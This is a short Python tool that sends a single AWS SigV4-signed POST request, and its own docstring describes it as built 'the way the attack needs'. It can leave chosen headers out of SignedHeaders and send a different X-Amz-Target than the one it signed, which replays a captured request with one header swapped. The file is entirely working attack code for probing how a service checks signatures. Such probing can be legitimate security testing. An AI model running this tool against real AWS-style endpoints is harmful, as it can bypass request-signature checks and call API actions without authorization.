#!/usr/bin/env python3
"""sigv4_send.py - one SigV4-signed POST, signed the way the attack needs.

Unlike the aws CLI, it can leave headers out of SignedHeaders, sign for any
service and region, and send headers other than the ones it signed (a
captured request replayed with one header changed). Standard library only.
Prints the HTTP status on the first line, then the body.

  AWS_ACCESS_KEY_ID=.. AWS_SECRET_ACCESS_KEY=.. sigv4_send.py URL
      --service S --region R [--target T] [--content-type CT]
      [--sign host,x-amz-date,...] [--send-target T2] [--body B]
"""
import argparse
import datetime
import hashlib
import hmac
import os
import sys
import urllib.error
import urllib.parse
import urllib.request


def hmac256(key, msg):
    return hmac.new(key, msg.encode(), hashlib.sha256).digest()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("url")
    ap.add_argument("--service", required=True)
    ap.add_argument("--region", required=True)
    ap.add_argument("--target")
    ap.add_argument("--content-type", default=None)
    ap.add_argument("--sign", default="content-type,host,x-amz-date,x-amz-target")
    ap.add_argument("--send-target", help="X-Amz-Target actually sent")
    ap.add_argument("--body", default="")
    a = ap.parse_args()

    akid = os.environ["AWS_ACCESS_KEY_ID"]
    secret = os.environ["AWS_SECRET_ACCESS_KEY"]
    u = urllib.parse.urlsplit(a.url)
    now = datetime.datetime.now(datetime.timezone.utc)
    amz_date = now.strftime("%Y%m%dT%H%M%SZ")
    day = amz_date[:8]
    ctype = a.content_type
    if ctype is None:
        ctype = ("application/x-amz-json-1.1" if a.target else
                 "application/x-www-form-urlencoded; charset=utf-8")
    headers = {"host": u.netloc, "content-type": ctype, "x-amz-date": amz_date}
    if a.target:
        headers["x-amz-target"] = a.target
    signed = sorted(h for h in a.sign.split(",") if h in headers)
    canonical = "\n".join([
        "POST", "/", "",
        "".join("%s:%s\n" % (h, headers[h].strip()) for h in signed),
        ";".join(signed),
        hashlib.sha256(a.body.encode()).hexdigest(),
    ])
    scope = "%s/%s/%s/aws4_request" % (day, a.region, a.service)
    to_sign = "\n".join(["AWS4-HMAC-SHA256", amz_date, scope,
                         hashlib.sha256(canonical.encode()).hexdigest()])
    k = hmac256(("AWS4" + secret).encode(), day)
    for part in (a.region, a.service, "aws4_request"):
        k = hmac256(k, part)
    sig = hmac.new(k, to_sign.encode(), hashlib.sha256).hexdigest()
    auth = ("AWS4-HMAC-SHA256 Credential=%s/%s, SignedHeaders=%s, "
            "Signature=%s" % (akid, scope, ";".join(signed), sig))

    sent = {
        "Content-Type": ctype,
        "X-Amz-Date": amz_date,
        "Authorization": auth,
    }
    target = a.send_target or a.target
    if target:
        sent["X-Amz-Target"] = target
    req = urllib.request.Request(a.url + "/", data=a.body.encode(),
                                 headers=sent, method="POST")
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            status, body = r.status, r.read()
    except urllib.error.HTTPError as e:
        status, body = e.code, e.read()
    print(status)
    print(body.decode(errors="replace"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
